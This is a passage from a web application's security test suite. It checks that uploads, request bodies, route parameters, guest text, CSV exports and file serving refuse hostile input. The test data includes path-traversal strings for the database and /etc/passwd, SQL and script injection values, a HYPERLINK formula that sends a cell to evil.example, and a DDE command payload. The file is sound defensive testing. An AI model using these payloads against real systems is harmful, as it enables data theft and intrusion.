      ['no slot id', () => multipart([{ name: 'image', filename: 'a.png', type: 'image/png', data: png }])],
      ['no file', () => multipart([{ name: 'imageId', data: 'hero' }])],
      ['the file under another name', () => multipart([{ name: 'imageId', data: 'hero' }, { name: 'file', filename: 'a.png', type: 'image/png', data: png }])],
      ['two files', () => multipart([{ name: 'imageId', data: 'hero' }, { name: 'image', filename: 'a.png', type: 'image/png', data: png }, { name: 'image', filename: 'b.png', type: 'image/png', data: png }])],
      ['an unterminated multipart body', () => multipart([{ name: 'imageId', data: 'hero' }, { name: 'image', filename: 'a.png', type: 'image/png', data: png }], false)],
      ['a multipart body without its boundary', () => multipart([{ name: 'imageId', data: 'hero' }]), 'multipart/form-data'],
      ['a JSON body', () => Buffer.from(JSON.stringify({ imageId: 'hero', image: png.toString('base64') })), 'application/json'],
    ];
    it.each(forms)('%s → 4xx, no file stored, no slot changed', async (_name, body, contentType) => {
      const before = uploads();
      await expectRefused(s, upload(body(), contentType));
      expect(uploads()).toEqual(before);
    });

    it('stores a real image under a generated name, whatever path its file name claims', async () => {
      const evil = path.join(tmpdir(), `ridgeline-evil-${process.pid}.png`);
      const res = await send(s.origin, upload(multipart([{ name: 'imageId', data: 'kitchen' }, { name: 'image', filename: `../../../../../../..${evil}`, type: 'image/png', data: png }])));
      expect(res.status, res.text).toBe(200);
      expect(JSON.parse(res.text).newPath).toMatch(/^\/uploads\/kitchen-[0-9a-f]{16}\.jpg$/);
      expect(existsSync(evil)).toBe(false);
      // The full-size JPEG and WebP, the responsive files beside them ([images.variants]) and the social card ([listing.social-card]).
      expect(uploads().filter((name) => !/^kitchen-[0-9a-f]{16}(-\d+|-card)?\.(jpg|webp|avif)$/.test(name))).toEqual([]);
    });
  });
});

describe('every registered route, those added later included', () => {
  let s: Served;
  const cookies: Record<'admin' | 'security', string> = { admin: '', security: '' };
  beforeAll(async () => {
    const { t } = buildApp({ payments: true });
    await setTestPasswords(t.db);
    s = await serve(t);
    cookies.admin = await sessionCookie(s, 'admin');
    cookies.security = await sessionCookie(s, 'security');
  });
  afterAll(async () => {
    await s.close();
    s.t.cleanup();
  });

  /** Bodies every route refuses before its handler runs: the body parser's own refusals. */
  const PARSER_REFUSALS: { name: string; headers: Record<string, string>; body: string | Buffer; status: number }[] = [
    { name: 'truncated JSON', headers: { 'Content-Type': 'application/json' }, body: '{"ip":"1.2.3.4","price":', status: 400 },
    { name: 'JSON null', headers: { 'Content-Type': 'application/json' }, body: 'null', status: 400 },
    { name: 'invalid UTF-8', headers: { 'Content-Type': 'application/json' }, body: Buffer.from([0x7b, 0xff, 0x7d]), status: 400 },
    { name: 'an unknown charset', headers: { 'Content-Type': 'application/json; charset=klingon' }, body: '{}', status: 415 },
    { name: 'an unknown encoding', headers: { 'Content-Type': 'application/json', 'Content-Encoding': 'br-nope' }, body: '{}', status: 415 },
    { name: 'a body over 100 kB', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ x: 'x'.repeat(110 * 1024) }), status: 413 },
  ];
  /** Path parameter values no route accepts, whatever the parameter is. */
  const BAD_PARAMS = ['%ED%A0%80', '%E0%A4%A', '..%2f..%2fetc%2fpasswd', "1'%20OR%20'1'%3D'1", '-1', '9'.repeat(400), '%3Cscript%3E'];

  it('finds the routes it sweeps', () => {
    const routes = registeredRoutes(s.t.app);
    expect(routes.filter((r) => r.area === 'admin' && r.method !== 'GET').length).toBeGreaterThanOrEqual(10);
    expect(routes.some((r) => r.path.includes(':'))).toBe(true);
  });

  it('each write route, public or behind its session, refuses bodies the parser cannot read (4xx, nothing changed)', async () => {
    for (const route of registeredRoutes(s.t.app).filter((r) => ['POST', 'PUT', 'PATCH', 'DELETE'].includes(r.method))) {
      const cookie: Record<string, string> = route.area ? { Cookie: cookies[route.area] } : {};
      for (const attack of PARSER_REFUSALS) {
        // The Stripe webhook reads raw bytes (any charset, up to 1 MB): an unsigned body is a 400.
        const webhook = route.path === '/api/stripe/webhook';
        const status = webhook ? (attack.name === 'an unknown encoding' ? 415 : 400) : attack.status;
        await expectRefused(s, { method: route.method, path: concretePath(route.path), headers: { ...attack.headers, ...cookie }, body: attack.body }, status, `${attack.name} to ${route.method} ${route.path}`);
      }
    }
  });

  it('each route with a path parameter refuses values no parameter takes (4xx, nothing changed)', async () => {
    for (const route of registeredRoutes(s.t.app).filter((r) => r.path.includes(':'))) {
      const cookie: Record<string, string> = route.area ? { Cookie: cookies[route.area] } : {};
      for (const value of BAD_PARAMS) {
        const target = route.path.replace(/:[A-Za-z]+/g, value);
        await expectRefused(s, { method: route.method, path: target, headers: { 'Content-Type': 'application/json', ...cookie }, body: '{}' }, undefined, `${route.method} ${route.path} with ${value.slice(0, 20)}`);
      }
    }
  });
});

describe('free text is stored as text: SQL and HTML payloads change nothing else', () => {
  let t: TestApp;
  let s: Served;
  beforeEach(async () => {
    t = buildApp({ payments: false }).t;
    await setTestPasswords(t.db);
    s = await serve(t);
  });
  afterEach(async () => {
    await s.close();
    t.cleanup();
  });

  it.each(SAFE_TEXT)('a booking inquiry and a review carrying %s keep it exactly, and no other row changes', async (name) => {
    const value = HOSTILE_STRINGS[name];
    const admin = await sessionCookie(s, 'admin');
    const before = snapshotDatabase(t.db);
    const inquiry = { ...GUEST, firstName: value.slice(0, 100), location: value, ...STAY, message: `${value}\n${value}`, specialRequests: value };
    const created = await send(s.origin, json('POST', '/api/booking-inquiry', inquiry));
    expect(created.status, created.text).toBe(201);
    const review = await send(s.origin, json('POST', '/api/reviews', { ...reviewBody, guestName: value, title: value, content: value }, admin));
    expect(review.status, review.text).toBe(201);

    const after = snapshotDatabase(t.db);
    // Exactly one new row in each of the two tables and the owner's notice of the request to book
    // (payments are off here: [booking.request]), everything else as it was but the time the
    // public page last changed (the review is on it: [seo.sitemap]).
    const withoutChangeTime = (rows: unknown[] | undefined) => rows?.filter((row) => (row as { key?: string }).key !== PUBLIC_CONTENT_CHANGED_KEY);
    expect({ ...after, booking_inquiries: undefined, reviews: undefined, owner_notices: undefined, settings: withoutChangeTime(after.settings) }).toEqual({
      ...before,
      booking_inquiries: undefined,
      reviews: undefined,
      owner_notices: undefined,
      settings: withoutChangeTime(before.settings),
    });
    expect(after.booking_inquiries).toHaveLength((before.booking_inquiries?.length ?? 0) + 1);
    expect(after.reviews).toHaveLength((before.reviews?.length ?? 0) + 1);
    const notices = (after.owner_notices ?? []) as { kind: string; text: string }[];
    expect(notices).toHaveLength((before.owner_notices?.length ?? 0) + 1);
    expect(notices.at(-1)).toMatchObject({ kind: 'booking-request' });
    expect(notices.at(-1)?.text).toContain(value.slice(0, 100));

    const listed = JSON.parse((await send(s.origin, { method: 'GET', path: '/api/booking-inquiries', headers: { Cookie: admin } })).text) as Booking[];
    expect(listed[0]).toMatchObject({ firstName: value.slice(0, 100), location: value, message: `${value}\n${value}`, specialRequests: value });
    const reviews = JSON.parse((await send(s.origin, { method: 'GET', path: '/api/reviews', headers: { Cookie: admin } })).text) as { reviews: { guestName: string; title: string; content: string }[] };
    expect(reviews.reviews.find((r) => r.guestName === value)).toMatchObject({ title: value, content: value });
  });

  it('a CSV export of hostile guest text neutralises formulas (core bookingsCsv)', async () => {
    const admin = await sessionCookie(s, 'admin');
    const hostile = {
      ...GUEST,
      ...STAY,
      firstName: '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")',
      lastName: '+cmd|\' /C calc\'!A0',
      phone: '-1+1',
      location: '@SUM(1+1)',
      message: '=1+1\n"quoted", and; semicolons',
      specialRequests: '\t=2+2',
    };
    expect((await send(s.origin, json('POST', '/api/booking-inquiry', hostile))).status).toBe(201);
    const listed = JSON.parse((await send(s.origin, { method: 'GET', path: '/api/booking-inquiries', headers: { Cookie: admin } })).text) as Booking[];
    const csv = bookingsCsv(listed);
    const row = csv.split('\r\n')[1] as string;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Invoice"")"`);
    expect(row).toContain(`,"'+cmd|' /C calc'!A0",`);
    expect(row).toContain(`,"'-1+1",`);
    // The multi-line message stays one quoted cell; a formula at its start is neutralised.
    expect(csv).toContain(`"'=1+1\n""quoted"", and; semicolons"`);
    // Surrounding white space is trimmed on the way in; the formula that remains is neutralised.
    expect(csv).toContain(`,"'=2+2","Inquiry",`);
    // Every cell is quoted (a ";" inside one cannot split it), and none starts with a formula
    // character but our own numbers.
    const cells = csv.match(/(?<=^|,)("(?:[^"]|"")*"|[^,\r\n]*)/gm) ?? [];
    for (const cell of cells.filter(Boolean)) {
      expect(cell, cell).toMatch(/^"[^]*"$/);
      expect(cell.slice(1, -1), cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    }
  });
});

describe('path traversal: the database and files outside the build are never served', () => {
  let t: TestApp;
  let s: Served;
  beforeAll(async () => {
    t = buildApp({ payments: false }).t;
    s = await serve(t);
  });
  afterAll(async () => {
    await s.close();
    t.cleanup();
  });

  // createTestApp puts the built client and the data directory side by side in the temp dir, so
  // `<client>/../<data dir>/ridgeline.sqlite` is the database.
  const targets = () => {
    const data = path.basename(t.config.dataDir);
    return [
      '/uploads/..%2f..%2fridgeline.sqlite',
      '/uploads/..%2fridgeline.sqlite',
      '/uploads/%2e%2e/ridgeline.sqlite',
      '/uploads/%2e%2e%2fridgeline.sqlite',
      '/uploads/..%5cridgeline.sqlite',
      '/uploads/%252e%252e%252fridgeline.sqlite',
      '/uploads/....//ridgeline.sqlite',
      '/uploads/.%2e/ridgeline.sqlite',
      '/uploads/..%2fridgeline.sqlite-wal',
      '/uploads/..%2fridgeline.sqlite%00.jpg',
      '/uploads//ridgeline.sqlite',
      `/uploads/..%2f..%2f${data}%2fridgeline.sqlite`,
      `/..%2f${data}%2fridgeline.sqlite`,
      `/%2e%2e/${data}/ridgeline.sqlite`,
      `/assets/..%2f..%2f${data}%2fridgeline.sqlite`,
      `/images/%2e%2e%2f%2e%2e%2f${data}%2fridgeline.sqlite`,
      '/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
      '/assets/..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
      '/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
      '/..%5c..%5c..%5c..%5cetc%5cpasswd',
      '/uploads/%c0%ae%c0%ae/ridgeline.sqlite',
      '//etc/passwd',
    ];
  };

  it('refuses every traversal with a 4xx that carries no file', async () => {
    // The marker the checks look for is really the start of the database file.
    expect(readFileSync(path.join(t.config.dataDir, 'ridgeline.sqlite')).subarray(0, 15).toString()).toBe('SQLite format 3');
    for (const target of targets()) {
      const res = await send(s.origin, { method: 'GET', path: target });
      const label = `GET ${target} → ${res.status}`;
      expect(res.status, label).toBeGreaterThanOrEqual(400);
      expect(res.status, label).toBeLessThan(500);
      expect(res.bytes.includes('SQLite format 3'), label).toBe(false);
      expect(res.text, label).not.toMatch(/root:.*:0:0:/);
    }
  });

  it('serves nothing from the data directory but generated upload names', async () => {
    for (const target of ['/uploads/', '/uploads', '/ridgeline.sqlite', '/data/ridgeline.sqlite', '/.env', '/uploads/.hero.jpg.tmp']) {
      const res = await send(s.origin, { method: 'GET', path: target });
      expect(res.bytes.includes('SQLite format 3'), target).toBe(false);
      expect(res.status, target).not.toBe(500);
      if (res.status === 200) expect(String(res.headers['content-type']), target).toMatch(/^text\/html/);
    }
  });
});
